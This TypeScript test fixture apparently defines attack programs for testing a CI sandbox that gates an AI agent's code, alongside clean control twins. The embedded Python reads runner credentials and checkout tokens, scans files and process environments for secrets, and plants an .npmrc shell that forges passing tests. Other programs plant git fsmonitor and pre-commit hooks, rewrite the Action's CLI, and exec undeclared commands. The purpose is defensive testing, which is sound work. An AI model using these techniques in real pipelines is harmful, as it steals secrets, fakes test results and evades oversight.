/**
 * The pull request a layout test gates: a small npm package (its `npm test` prints three tests),
 * and the agent's program, one of
 *
 * - `sneaky.py`: does nothing the envelope judges; tries to read the runner's credentials, the
 *   job's files in RUNNER_TEMP and the persisted checkout token, searches everything it can reach
 *   for the layout's secret markers, and leaves `$HOME/.npmrc` (`script-shell=/tmp/sh`) and a
 *   forging `/tmp/sh` for the property command `npm test` (attacks 3, 4, 5, 6);
 * - `loud.py`: plants `core.fsmonitor` and a pre-commit hook in `.git`, rewrites the Action's
 *   `dist/cli/index.js`, and last execs an undeclared command from a non-main thread (attacks
 *   1, 2, 7); under allowlist it also asks the proxy for a denied host;
 * - `clean.py`: the twin, writing a file in the workspace (and under allowlist fetching the
 *   allowed host through the proxy);
 * - `git.py`: a clean suite whose tools call git, as a suite's do: it changes a tracked file, then
 *   runs `git status`, `git diff` and `git log` in the checked-out workspace;
 * - `git-plant.py`: its twin, setting `core.fsmonitor` with `git config` and writing
 *   `.git/hooks/pre-commit` from a shell, then `git status`.
 *
 * Each writes what it achieved to `findings.json` in the workspace, before anything that could
 * end it.
 */
import { realpathSync } from "node:fs";
import { basename } from "node:path";
import type { LayoutPaths } from "./runner-layout.js";
import { MARKER_PREFIX } from "./runner-layout.js";

export const PYTHON = realpathSync("/usr/bin/python3");

/** Where the property's forging shell leaves its mark when it ran (inside the workspace, a root). */
export const FORGED_MARK = "FORGED-BY-TMP-SH";
/** Where the thread's exec leaves its mark. */
export const THREAD_EXEC_MARK = "thread-exec-ran";
/** The undeclared command the thread execs. */
export const THREAD_EXEC_COMMAND = realpathSync("/usr/bin/touch");

/** The pull request's test suite, run by the property command `npm test`. */
export const PACKAGE_FILES: Record<string, string> = {
  "package.json": JSON.stringify({ name: "widgets", version: "1.0.0", private: true, scripts: { test: "node test.js" } }, null, 2) + "\n",
  "test.js": 'for (let i = 1; i <= 3; i++) console.log("ok " + i + " widget");\n',
};

/** The envelope every layout test gates under (keys npm reads, learnt with `envelope-gate suggest`). */
export function layoutEnvelope(network: "deny" | "allowlist", allowedHosts: string[]): Record<string, unknown> {
  return {
    envelope_id: "layout-envelope-v1",
    allowed_roots: ["${WORKSPACE}", "${SCRATCH}"],
    allowed_tools: [],
    allowed_env: [
      "@ci",
      "@terminal",
      "NODE*",
      "npm_*",
      // npm sets these for itself and reads them back; a family never covers a credential carrier (the .npmrc files) nor a program control (node-gyp's path).
      "npm_config_globalconfig",
      "npm_config_userconfig",
      "npm_config_node_gyp",
      // npm exports a CA file the machine's npmrc names (this machine's global one does; a hosted runner's not).
      "npm_config_cafile",
      "CI",
      "PATH",
      "HOME",
      "RUN_ID",
      "DEBUG",
      "DEBUG_NOPT",
      "DESTDIR",
      "EDITOR",
      "GIT_ASKPASS",
      "GIT_SSH_COMMAND",
      "GRACEFUL_FS_PLATFORM",
      "INIT_CWD",
      "NOPT_DEBUG",
      "PATHEXT",
      "PREFIX",
      "SHELL",
      "TEMP",
      "TMP",
      "TMPDIR",
      "VISUAL",
      "TESTING_TAR_FAKE_PLATFORM",
      "TEST_GRACEFUL_FS_GLOBAL_PATCH",
      "_ISEXE_TEST_PLATFORM_",
      "__FAKE_FS_O_FILENAME__",
      "__FAKE_PLATFORM__",
      "__MINIMATCH_TESTING_PLATFORM__",
      "HTTP_PROXY",
      "HTTPS_PROXY",
      "ALL_PROXY",
      "NO_PROXY",
      "NOPROXY",
      "http_proxy",
      "https_proxy",
      "all_proxy",
      "no_proxy",
      // npm's CI detection reads these two besides the @ci set.
      "GITHUB_SERVER_URL",
      "RUNNER_ENVIRONMENT",
    ],
    allowed_hosts: allowedHosts,
    network,
    // sh and dash: npm runs scripts with sh (dash on Debian); git: the git suites; touch is the thread's undeclared command.
    allowed_commands: [basename(PYTHON), "npm-cli.js", "env", "node", "sh", "dash", "git"],
  };
}

/** What the programs know about the layout (layout-targets.json in the workspace). */
export function targetsFile(paths: LayoutPaths, egress: { allowed: string; denied: string } | null): string {
  const read = [
    ...(paths.runnerDir !== null
      ? [`${paths.runnerDir}/.credentials`, `${paths.runnerDir}/.credentials_rsaparams`, `${paths.runnerDir}/.runner`]
      : []),
    `${paths.workspace}/.git/config`,
    `${paths.runnerTemp}/_runner_file_commands`,
  ];
  return (
    JSON.stringify(
      {
        prefix: MARKER_PREFIX,
        read,
        // Directories to list and search whole (RUNNER_TEMP's step scripts and file commands among them).
        walk: [paths.root, paths.home, paths.runnerTemp, "/tmp", paths.workspace],
        runner_temp: paths.runnerTemp,
        // Only where the Action sits inside the workspace (uses: ./...): elsewhere it is outside every root.
        action_cli: paths.actionPath.startsWith(`${paths.workspace}/`) ? `${paths.actionPath}/dist/cli/index.js` : null,
        pwned: paths.pwned,
        forged_mark: FORGED_MARK,
        thread_exec: { command: THREAD_EXEC_COMMAND, mark: THREAD_EXEC_MARK },
        egress,
      },
      null,
      2,
    ) + "\n"
  );
}

const COMMON = String.raw`import base64, json, os, re, socket, sys
T = json.load(open("layout-targets.json"))
F = {"found": {}, "readable": {}, "listed": {}}
def save():
    with open("findings.json", "w") as f:
        json.dump(F, f, indent=1, sort_keys=True)
def via_proxy(url):
    # A proxy-aware client, by hand: the absolute-form request to HTTP_PROXY (urllib would skip it for NO_PROXY).
    proxy = os.environ.get("HTTP_PROXY")
    if proxy is None:
        return "no HTTP_PROXY"
    host, port = proxy.split("//")[1].rstrip("/").split(":")
    try:
        s = socket.create_connection((host, int(port)), timeout=20)
        s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % url).encode())
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        head, _, body = data.partition(b"\r\n\r\n")
        return head.split(b" ")[1].decode() + ":" + body.decode("latin1")[:200]
    except OSError as e:
        return "error:" + str(e)
`;

/** Attacks 3, 4, 5, 6: nothing the envelope judges. */
export const SNEAKY_PY =
  COMMON +
  String.raw`
PAT = re.compile(re.escape(T["prefix"]) + r"[a-z-]+-[0-9a-f]{16}")
def scan(where, data):
    text = data.decode("latin1")
    for m in PAT.findall(text):
        F["found"].setdefault(m, []).append(where)
    for b in re.findall(r"basic ([A-Za-z0-9+/=]{8,})", text):
        try:
            decoded = base64.b64decode(b).decode("latin1")
        except Exception:
            continue
        for m in PAT.findall(decoded):
            F["found"].setdefault(m, []).append(where + " (base64)")
def read(path):
    with open(path, "rb") as f:
        return f.read(1 << 20)
# 3, 5, 6: the named targets.
for p in T["read"]:
    try:
        if os.path.isdir(p):
            F["listed"][p] = sorted(os.listdir(p))
            for n in os.listdir(p):
                scan(p + "/" + n, read(p + "/" + n))
            F["readable"][p] = True
        else:
            scan(p, read(p))
            F["readable"][p] = True
    except OSError as e:
        F["readable"][p] = e.strerror
try:
    F["listed"][T["runner_temp"]] = sorted(os.listdir(T["runner_temp"]))
except OSError as e:
    F["listed"][T["runner_temp"]] = e.strerror
# Everything else it can reach: the layout, HOME, /tmp, the workspace, its environment.
seen = 0
for top in T["walk"]:
    for dirpath, dirnames, filenames in os.walk(top):
        for n in filenames:
            p = os.path.join(dirpath, n)
            try:
                if os.path.islink(p) or not os.path.isfile(p) or os.path.getsize(p) > (1 << 20):
                    continue
                seen += 1
                if seen > 20000:
                    break
                scan(p, read(p))
            except OSError:
                pass
scan("os.environ", "\n".join("%s=%s" % kv for kv in os.environ.items()).encode())
for p in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"]:
    try:
        scan(p, read(p))
    except OSError:
        pass
# 4: leave the property command's npm a shell that forges its tests.
home = os.environ.get("HOME", os.path.expanduser("~"))
try:
    with open(os.path.join(home, ".npmrc"), "w") as f:
        f.write("script-shell=/tmp/sh\n")
    with open("/tmp/sh", "w") as f:
        f.write("#!/bin/sh\n: > %s/%s\nfor i in 1 2 3 4 5 6 7 8 9; do echo \"ok $i forged\"; done\n" % (os.getcwd(), T["forged_mark"]))
    os.chmod("/tmp/sh", 0o755)
    F["planted_npmrc"] = os.path.join(home, ".npmrc")
except OSError as e:
    F["planted_npmrc"] = "error:" + e.strerror
if T["egress"] is not None:
    F["egress_allowed"] = via_proxy(T["egress"]["allowed"])
save()
`;

/** Attacks 1, 2, 7: planted in `.git`, in the Action's own files, and an exec from a thread. */
export const LOUD_PY =
  COMMON +
  String.raw`
import threading
pwned = T["pwned"]
def attempt(name, fn):
    try:
        fn()
        F[name] = "written"
    except OSError as e:
        F[name] = "error:" + (e.strerror or str(e))
def fsmonitor():
    with open(".git/config", "a") as f:
        f.write("[core]\n\tfsmonitor = \"touch %s/fsmonitor; false\"\n" % pwned)
def hook():
    os.makedirs(".git/hooks", exist_ok=True)
    with open(".git/hooks/pre-commit", "w") as f:
        f.write("#!/bin/sh\ntouch %s/pre-commit\n" % pwned)
    os.chmod(".git/hooks/pre-commit", 0o755)
def action_cli():
    with open(T["action_cli"], "w") as f:
        f.write("import(\"node:fs\").then((fs) => fs.writeFileSync(%s, \"the rewritten CLI ran outside the jail\\n\"));\n" % json.dumps(pwned + "/cli"))
attempt("git_config", fsmonitor)
attempt("git_hook", hook)
if T["action_cli"] is not None:
    attempt("action_cli", action_cli)
if T["egress"] is not None:
    F["egress_denied"] = via_proxy(T["egress"]["denied"])
save()
# 7: exec from a thread that is not the main one (the process becomes the command).
def run():
    os.execv(T["thread_exec"]["command"], ["touch", T["thread_exec"]["mark"]])
t = threading.Thread(target=run)
t.start()
t.join()
`;

/** The clean twin. */
export const CLEAN_PY =
  COMMON +
  String.raw`
with open("out.txt", "w") as f:
    f.write("built\n")
F["wrote"] = "out.txt"
if T["egress"] is not None:
    F["egress_allowed"] = via_proxy(T["egress"]["allowed"])
save()
`;

const GIT_COMMON = String.raw`
import subprocess
def git(*args):
    r = subprocess.run(["git", *args], capture_output=True, text=True)
    return {"exit": r.returncode, "out": r.stdout, "err": r.stderr[-2000:]}
`;

/** What the clean git suite appends to a tracked file before it asks git about the workspace. */
export const GIT_SUITE_LINE = "// touched by the suite";

/** A clean suite whose tools call git: a tracked file changed, then status, diff and log. */
export const GIT_PY =
  COMMON +
  GIT_COMMON +
  String.raw`
with open("test.js", "a") as f:
    f.write("${GIT_SUITE_LINE}\n")
F["git"] = {
    "status": git("status", "--porcelain"),
    "status_long": git("status"),
    "diff": git("diff"),
    "diff_head": git("diff", "--stat", "HEAD"),
    "log": git("log", "--oneline", "-5"),
    "show": git("show", "--stat", "HEAD"),
}
save()
`;

/** The git suite's hostile twin: `core.fsmonitor` by `git config`, a pre-commit hook by a shell's redirection. */
export const GIT_PLANT_PY =
  COMMON +
  GIT_COMMON +
  String.raw`
pwned = T["pwned"]
F["git"] = {"config": git("config", "core.fsmonitor", "touch %s/fsmonitor; false" % pwned)}
hook = subprocess.run(["sh", "-c", "printf '#!/bin/sh\ntouch %s/pre-commit\n' > .git/hooks/pre-commit" % pwned], capture_output=True, text=True)
F["git"]["hook"] = {"exit": hook.returncode, "err": hook.stderr[-2000:]}
F["git"]["status"] = git("status", "--porcelain")
save()
`;

/** For the CLI-only layouts under allowlist: the allowed host through the proxy, and, when asked, a denied one. */
export const EGRESS_PY =
  COMMON +
  String.raw`
F["egress_allowed"] = via_proxy(T["egress"]["allowed"])
if len(sys.argv) > 1 and sys.argv[1] == "--also-denied":
    F["egress_denied"] = via_proxy(T["egress"]["denied"])
save()
`;
